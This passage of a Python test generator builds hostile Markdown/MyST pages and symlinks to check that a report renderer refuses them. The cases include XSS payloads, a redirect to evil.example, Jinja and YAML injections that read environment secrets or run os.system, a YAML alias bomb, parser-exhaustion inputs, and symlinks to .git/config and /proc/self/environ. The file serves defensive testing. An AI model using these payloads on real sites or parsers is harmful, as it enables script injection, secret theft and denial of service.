    "c6-mxss-noscript",
    6,
    H6,
    "mutation-XSS via <noscript>/<math><style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n\n<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>',
)
S(
    "c6-html-admonition",
    6,
    H6,
    "html_admonition-style <div class=admonition onclick>",
    '<div class="admonition note" onclick="alert(1)">\n<p class="title">Note</p>\n<p>hi</p>\n</div>',
)
S(
    "c6-html-in-table",
    6,
    H6,
    "raw HTML in a pipe-table cell",
    "| a | b |\n|---|---|\n| <b onmouseover=alert(1)>x</b> | y |",
)
S(
    "c6-html-in-footnote",
    6,
    H6,
    "raw HTML in a footnote",
    "Text.[^h]\n\n[^h]: <img src=x onerror=alert('fn')>",
)
S(
    "c6-html-in-list-dropdown",
    6,
    H6,
    "raw HTML in a list inside a dropdown",
    "````{dropdown} More\n- <script>alert('dropdown')</script>\n````",
)
S(
    "c6-raw-directive",
    6,
    H6,
    "{raw} html directive",
    "```{raw} html\n<script>alert('raw')</script>\n```",
)
S(
    "c6-raw-upper",
    6,
    H6,
    "{RAW} HTML (case-insensitive directive name)",
    "```{RAW} HTML\n<script>alert('RAW')</script>\n```",
)
S(
    "c6-raw-colon-nested",
    6,
    H6,
    "colon-fence {raw} inside {admonition} inside tab-item",
    "`````{tab-set}\n````{tab-item} T\n```{admonition} Look\n:::{raw} html\n<svg onload=alert('nested')></svg>\n:::\n```\n````\n`````",
)
S(
    "c6-evalrst-raw",
    6,
    H6,
    "eval-rst raw html inside rst note",
    "```{eval-rst}\n.. note::\n\n   .. raw:: html\n\n      <script>alert('evalrst')</script>\n```",
)
S(
    "c6-evalrst-role-raw",
    6,
    H6,
    "eval-rst custom role derived from raw",
    "```{eval-rst}\n.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=alert('role')>`\n```",
)
S(
    "c6-evalrst-meta",
    6,
    H6,
    "eval-rst meta refresh to javascript:",
    "```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0; url=javascript:alert(1)\n```",
)
S(
    "c6-meta-directive",
    6,
    H6,
    "MyST {meta} directive",
    "```{meta}\n:http-equiv=refresh: 0; url=https://evil.example/\n```",
)

# ---- class 7: front matter ---------------------------------------------------------------
H7 = "science-user-interface"
FM7 = {
    "c7-myst-enable-extensions": (
        "myst: enable_extensions + url_schemes override",
        "myst:\n  enable_extensions: [html_image, html_admonition, dollarmath, amsmath, substitution, linkify, colon_fence]\n"
        "  url_schemes: [javascript, data, file, vbscript]\n  all_links_external: true\n",
        "- <img src=x onerror=alert(1)> $\\href{javascript:alert(1)}{x}$",
    ),
    "c7-myst-html-meta": (
        "myst.html_meta refresh to javascript:",
        'myst:\n  html_meta:\n    "http-equiv=refresh": "0; url=javascript:alert(1)"\n    "description lang=en": \'"><script>alert(1)</script>\'\n',
        "- meta",
    ),
    "c7-toplevel-html-meta": (
        "top-level html_meta (legacy MyST) with CSP override",
        'html_meta:\n  "http-equiv=Content-Security-Policy": "default-src * \'unsafe-inline\'"\n  "http-equiv=refresh": "5; url=https://evil.example/"\n',
        "- meta2",
    ),
    "c7-substitutions-jinja": (
        "substitutions with Jinja reaching os.environ / raw HTML",
        "myst:\n  substitutions:\n    leak: \"{{ env.app.config.__class__.__init__.__globals__['os'].environ['DMREPORT_HOSTILE_SECRET'] }}\"\n"
        '    xss: "<script>alert(1)</script>"\n    loop: "{% for k in env.config %}{{ k }}{% endfor %}"\n'
        "substitutions:\n  legacy: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n",
        "- {{ leak }} {{ xss }} {{ loop }} {{ legacy }}",
    ),
    "c7-yaml-python-tag": (
        "YAML !!python/object/apply tag",
        'status: !!python/object/apply:os.system ["cat /tmp/dmreport-hostile-secret/secret.txt > /tmp/dmreport-hostile-ran"]\n',
        "- tag",
    ),
    "c7-notebook-kernelspec": (
        "jupytext/kernelspec front matter turning the page into an executed notebook",
        "jupytext:\n  text_representation:\n    format_name: myst\nkernelspec:\n  name: python3\n  display_name: Python 3\n",
        "```{code-cell} python3\nimport os; os.environ['DMREPORT_HOSTILE_SECRET']\n```",
    ),
    "c7-title-html": ("raw HTML in title front matter", None, "- title"),
}
for cid, (what, fm, body) in FM7.items():
    if cid == "c7-title-html":
        data = page(
            H7,
            "### 02C.05.01 – " + cid + "\n\n" + body,
            title="<script>alert(1)</script>User Interface",
        )
        F(cid, 7, f"{M}/{H7}.md", what, data)
    else:
        F(
            cid,
            7,
            f"{M}/{H7}.md",
            what,
            page(H7, "### 02C.05.01 – " + cid + "\n\n" + body, extra_fm=fm),
        )

# ---- class 8: pathological ---------------------------------------------------------------
H8a, H8b = "data-facility", "international-communications"
S("c8-stars", 8, H8a, "3000 '*' + a + 3000 '*'", "*" * 3000 + "a" + "*" * 3000)
S("c8-underscores", 8, H8a, "5000 '_' + a + 5000 '_'", "_" * 5000 + "a" + "_" * 5000)
S("c8-mixed-emphasis", 8, H8a, "alternating '*_' x3000 around a", "*_" * 3000 + "a" + "_*" * 3000)
S("c8-brackets", 8, H8a, "4000 '[' then text", "[" * 4000 + "a")
S("c8-link-nesting", 8, H8a, "2000 '[' then x then 2000 '](y)'", "[" * 2000 + "x" + "](y)" * 2000)
S(
    "c8-backtick-runs",
    8,
    H8a,
    "backtick runs of every length 1..1500",
    "".join("`" * i + "a" for i in range(1, 1501)),
)
S(
    "c8-wide-table",
    8,
    H8a,
    "pipe table with 5000 columns",
    "|"
    + "|".join("c" for _ in range(5000))
    + "|\n|"
    + "|".join("-" for _ in range(5000))
    + "|\n|"
    + "|".join("x" for _ in range(5000))
    + "|",
)
S("c8-blockquotes", 8, H8b, "2000-deep '> ' blockquotes", "> " * 2000 + "deep")
S("c8-bullet-lists", 8, H8b, "2000 nested '- ' lists on one line", "- " * 2000 + "deep")
S("c8-ordered-lists", 8, H8b, "1500 nested '1. ' lists", "1. " * 1500 + "deep")
S("c8-mixed-nesting", 8, H8b, "'> - 1. ' x700", "> - 1. " * 700 + "deep")
N = 1000
S(
    "c8-directive-nesting",
    8,
    H8b,
    f"{N} nested {{note}} directives (decreasing backtick fences)",
    "\n".join("`" * (N + 3 - i) + "{note}" for i in range(N))
    + "\ndeep\n"
    + "\n".join("`" * (4 + i) for i in range(N)),
)
laughs = "".join(f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, 12))
F(
    "c8-billion-laughs",
    8,
    f"{M}/{H8b}.md",
    "YAML billion-laughs alias bomb in front matter",
    page(H8b, "### 02C.08.01 – laughs\n\n- lol", extra_fm='lol:\n  l0: &l0 ["lol"]\n' + laughs),
)
big_line = "- Improved association for alert production, see {jirab}`DM-22727` and [docs](https://www.lsst.org).\n"
F(
    "c8-huge-page",
    8,
    f"{M}/square.md",
    "~6 MB page (valid Markdown, just huge)",
    page("square", "### 02C.10.01 – Huge\n\n" + big_line * (6 * 1024 * 1024 // len(big_line) + 1)),
)

# ---- class 9: symlinks (created by the harness) ------------------------------------------
L(
    "c9-page-symlink-outside",
    9,
    f"{M}/milestones.md",
    "/tmp/dmreport-hostile-secret/secret.txt",
    "valid page name, symlink to a file outside the repo",
)
L(
    "c9-page-symlink-gitconfig",
    9,
    f"{M}/dm-science-link.md",
    "../../.git/config",
    "page symlink to .git/config (relative)",
)
L(
    "c9-folder-symlink-outside",
    9,
    f"{M}/gallery",
    "/tmp/dmreport-hostile-secret",
    "symlinked folder to an outside directory",
)
L(
    "c9-folder-symlink-root",
    9,
    f"{M}/assets",
    "../..",
    "symlinked folder to the repo root (walk loop)",
)
L("c9-folder-symlink-self", 9, f"{M}/loop", ".", "self-referencing folder symlink")
L("c9-month-symlink", 9, "reports/2020-04", "2020-02", "a whole month folder that is a symlink")
L(
    "c9-image-symlink-inside",
    9,
    f"{M}/chart.png",
    "tiny.png",
    "symlinked image to a real PNG in the month",
)
L(
    "c9-image-symlink-gitconfig",
    9,
    f"{M}/gitconfig.png",
    "../../.git/config",
    "symlinked .png to .git/config",
)
L(
    "c9-image-symlink-environ",
    9,
    f"{M}/environ.png",
    "/proc/self/environ",
    "symlinked .png to /proc/self/environ",
)
L(
    "c9-image-symlink-dangling",
    9,
    f"{M}/dangling.png",
    "/nonexistent/hostile/x.png",
    "dangling symlinked image",
)

# ---------------------------------------------------------------- writing
PAGE_SLUGS = [
    "system-management",
    "dm-science",
    "alert-production",
    "data-release-production",
    "science-user-interface",
    "science-data-archive",
    "data-facility",
    "international-communications",
    "system-architecture",
    "square",
]


def write(root, rel, data):
    p = os.path.join(root, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


def section(c, n):
    return f"### 02C.00.{n:02d} – {c['id']}\n\n{c['body']}\n"


def build_combined():
    root = os.path.join(HERE, "tree")
    shutil.rmtree(root, ignore_errors=True)
    entries = []
    base = {
        f"{M}/index.md": index_md("2020-02", ["summary", "milestones", *PAGE_SLUGS]),
        f"{M}/summary.md": SUMMARY,
        f"{M}/science-data-archive.md": BENIGN_SDA,
    }
    for rel, d in base.items():
        write(root, rel, d)
        entries.append(
            dict(
                path=rel,
                **{"class": 1},
                what="benign page (valid name, valid content)",
                expect="allowed",
            )
        )
    # snippets grouped by host page
    hosts = {}
    for c in CASES:
        if c["kind"] == "snippet":
            hosts.setdefault(c["host"], []).append(c)
    for host, cs in hosts.items():
        body = "\n".join(section(c, i + 1) for i, c in enumerate(cs))
        rel = f"{M}/{host}.md"
        write(root, rel, page(host, body))
        entries.append(
            dict(
                path=rel,
                **{"class": cs[0]["cls"]},
                what="; ".join(c["what"] for c in cs),
                expect="refused",
                cases=[c["id"] for c in cs],
            )
        )
    # class 7 combined page: all front-matter attacks merged into one
    fm = (
        FM7["c7-myst-enable-extensions"][1]
        + FM7["c7-myst-html-meta"][1].replace("myst:\n", "")
        + FM7["c7-substitutions-jinja"][1].replace("myst:\n", "")
        + FM7["c7-toplevel-html-meta"][1]
        + FM7["c7-notebook-kernelspec"][1]
        + FM7["c7-yaml-python-tag"][1]
    )
    bodies = "\n\n".join(v[2] for v in FM7.values())
    rel = f"{M}/{H7}.md"
    write(
        root,
        rel,
        page(
            H7,
            "### 02C.05.01 – front matter\n\n" + bodies,
            extra_fm=fm,
            title="<script>alert(1)</script>User Interface",
        ),
    )
    entries.append(
        dict(
            path=rel,
            **{"class": 7},
            what="front matter: " + "; ".join(v[0] for v in FM7.values()),
            expect="refused",
            cases=list(FM7),
        )
    )
    for c in CASES:
        if c["kind"] == "file" and c["cls"] != 7:
            if (
                c["id"] == "c8-billion-laughs"
            ):  # merge into international-communications front matter
                continue
            write(root, c["path"], c["data"])
            entries.append(
                dict(
                    path=c["path"],
                    **{"class": c["cls"]},
                    what=c["what"],
                    expect=c["expect"],
                    cases=[c["id"]],
                )
            )
        elif c["kind"] == "symlink":
            entries.append(
                dict(
                    path=c["path"],
                    **{"class": 9},
                    what=c["what"],
                    expect="refused",
                    symlink_to=c["target"],
                    cases=[c["id"]],
                )
            )
    # add the billion-laughs front matter to the combined international-communications page
    ic = f"{M}/{H8b}.md"
    p = os.path.join(root, ic)
    with open(p, encoding="utf-8") as stream:
        txt = stream.read()
    lc = next(c for c in CASES if c["id"] == "c8-billion-laughs")
    fm_laughs = lc["data"].split("---\n")[1].split('title: "International Communications"\n')[1]
    txt = txt.replace(
        'title: "International Communications"\n',
        'title: "International Communications"\n' + fm_laughs,
        1,
    )
    with open(p, "w", encoding="utf-8") as stream:
        stream.write(txt)
    for e in entries:
        if e["path"] == ic:
            e["what"] += "; YAML billion-laughs alias bomb in front matter"
            e["cases"].append("c8-billion-laughs")
    with open(os.path.join(HERE, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(entries, f, indent=1, ensure_ascii=False)
    return entries


def build_isolated():
    croot = os.path.join(HERE, "cases")
    shutil.rmtree(croot, ignore_errors=True)
    out = []
    baseline = {
        f"{M}/summary.md": SUMMARY,
        f"{M}/science-data-archive.md": BENIGN_SDA,
        f"{M}/tiny.png": PNG,
        f"{M}/photo.jpg": JPEG,
        f"{M}/dot.gif": GIF,
        f"{M}/pic.webp": WEBP,
    }

    def base(root, extra_slugs):
        slugs = ["summary", "science-data-archive"] + [
            s for s in extra_slugs if s not in ("summary", "science-data-archive")
        ]
        write(root, f"{M}/index.md", index_md("2020-02", slugs))
        for rel, d in baseline.items():
            write(root, rel, d)

    r = os.path.join(croot, "c0-baseline", "tree")
    base(r, [])
    out.append(
        dict(
            case="c0-baseline",
            path=f"{M}/index.md",
            **{"class": 1},
            what="benign baseline month only (no hostile file)",
            expect="allowed",
        )
    )
    for c in CASES:
        r = os.path.join(croot, c["id"], "tree")
        if c["kind"] == "snippet":
            rel = f"{M}/{c['host']}.md"
            base(r, [c["host"]])
            write(r, rel, page(c["host"], section(c, 1)))
            out.append(
                dict(
                    case=c["id"], path=rel, **{"class": c["cls"]}, what=c["what"], expect="refused"
                )
            )
        elif c["kind"] == "file":
            slug = (
                os.path.basename(c["path"])[:-3]
                if c["path"].startswith(M + "/")
                and c["path"].count("/") == 2
                and c["path"].endswith(".md")
                else None
            )
            base(r, [slug] if slug in PAGE_SLUGS else [])
            write(r, c["path"], c["data"])
            out.append(
                dict(
                    case=c["id"],
                    path=c["path"],
                    **{"class": c["cls"]},
                    what=c["what"],
                    expect=c["expect"],
                )
            )
        else:
            base(r, [])
            out.append(
                dict(
                    case=c["id"],
                    path=c["path"],
                    **{"class": 9},
                    what=c["what"],
                    expect="refused",
                    symlink_to=c["target"],
                )
            )
    with open(os.path.join(croot, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(out, f, indent=1, ensure_ascii=False)
    return out


def generate(folder: str) -> tuple[list, list]:
    """Write the combined tree and the isolated cases under ``folder``."""
    global HERE
    HERE = folder
    return build_combined(), build_isolated()
